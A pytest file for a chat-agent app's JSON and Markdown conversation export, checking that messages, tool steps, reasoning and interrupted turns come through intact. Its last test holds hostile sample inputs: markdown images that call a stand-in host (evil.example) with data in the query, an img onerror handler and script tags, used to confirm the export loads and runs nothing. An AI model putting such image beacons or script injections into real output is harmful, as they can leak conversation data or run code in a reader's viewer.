"""Exports parse and contain every message and step."""

from __future__ import annotations

import json
import re

from langchain_core.messages import HumanMessage, messages_from_dict

from streamlit_agent.conversation.export import export_json, export_markdown
from streamlit_agent.store.database import ConversationStore
from tests.test_store import a_turn


def _stored(tmp_path, *turns):
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.db'}")
    for turn in turns:
        store.save_messages("anon:x", "t", turn, model="OpenAI gpt-test")
    return store.get_thread("anon:x", "t"), store.load_messages("anon:x", "t")


def test_json_export_has_every_message_and_step(tmp_path):
    tricky = a_turn("What about ```fences``` and <b>html</b> and a\x00nul and \ud800?", 4)
    thread, messages = _stored(tmp_path, a_turn("What is 1 + 1?", 1), tricky)
    document = json.loads(export_json(thread, messages))
    assert document["conversation"]["id"] == "t"
    assert document["conversation"]["title"].startswith("What is 1 + 1?")
    assert document["conversation"]["model"] == "OpenAI gpt-test"
    restored = messages_from_dict(document["messages"])
    assert [m.id for m in restored] == [m.id for m in messages]
    assert restored[4].content == tricky[0].content
    assert len(document["turns"]) == 2
    step = document["turns"][0]["steps"][0]
    assert step == {
        "tool": "calculator",
        "input": {"expression": "1 + 1"},
        "output": "2",
        "error": None,
        "status": "ok",
        "duration_s": 0.25,
        "call_id": messages[1].tool_calls[0]["id"],
        "said": "",
        "reasoning": "",
    }
    assert document["turns"][1]["answer"] == "It is 5."
    assert document["turns"][1]["usage"] == {"total_tokens": 12}


def test_markdown_export_shows_questions_steps_and_answers(tmp_path):
    fenced = a_turn("Show ``` inside", 2)
    fenced[2].response_metadata["full_output"] = "``` not a fence end ```"
    thread, messages = _stored(tmp_path, a_turn("What is 1 + 1?", 1), fenced)
    text = export_markdown(thread, messages)
    assert text.startswith("# What is 1 + 1?")
    assert "## 1. Question" in text and "## 2. Question" in text
    assert text.count("### Step: calculator (ok · 0.25 s)") == 2
    assert '{"expression": "1 + 1"}' in text
    assert "It is 2." in text and "It is 3." in text
    # Output holding a fence is wrapped in a longer fence, so it cannot break out.
    assert "````\n``` not a fence end ```\n````" in text


def test_interrupted_turn_is_marked(tmp_path):
    question = HumanMessage(content="cut off", id="q1")
    thread, messages = _stored(tmp_path, [question])
    assert "_(no answer)_" in export_markdown(thread, messages)
    assert json.loads(export_json(thread, messages))["turns"][0]["status"] == "interrupted"


def test_reasoning_and_what_the_model_said_are_exported_and_survive_the_store(tmp_path):
    turn = a_turn("What is 2 + 1?", 2)
    turn[1].content = "Let me add."
    turn[1].response_metadata["reasoning"] = "Addition: the calculator does it."
    turn[3].response_metadata["reasoning"] = "The tool said 3; answer with it."
    thread, messages = _stored(tmp_path, turn)
    [exported] = json.loads(export_json(thread, messages))["turns"]
    assert exported["reasoning"] == "The tool said 3; answer with it."
    assert exported["steps"][0]["said"] == "Let me add."
    assert exported["steps"][0]["reasoning"] == "Addition: the calculator does it."
    text = export_markdown(thread, messages)
    assert text.count("### Thinking") == 2
    thinking, said, step = (
        text.index("Addition: the calculator"),
        text.index("Let me add."),
        text.index("### Step: calculator"),
    )
    assert thinking < said < step < text.index("The tool said 3") < text.index("### Answer")


HOSTILE_ANSWER = (
    "Done! ![x](http://evil.example/?d=1) <img src=x onerror=alert(1)>\n\n"
    "<script>alert(2)</script>\n\n[r]: http://evil.example/ref\n\n![r]"
)


def test_markdown_export_loads_nothing_and_runs_no_html(tmp_path):
    """A viewer that renders the export's HTML loads no image and runs no script (finding 9)."""
    from markdown_it import MarkdownIt

    turn = a_turn("Show ![q](http://evil.example/q) <img src=q>", 1)
    turn[1].content = "Calling <script>alert(3)</script> ![s](http://evil.example/s)"
    turn[3].content = HOSTILE_ANSWER
    thread, messages = _stored(tmp_path, turn)
    text = export_markdown(thread, messages)
    assert "![" not in text
    assert not re.search(r"(?<!\\)<(?:img|script)", text)  # only as `\<img`, shown as text
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<img" not in html and "<script" not in html
    # Each target is still there to read, as on the page.
    for target in ("http://evil.example/?d=1", "http://evil.example/ref", "src=x onerror"):
        assert target in html
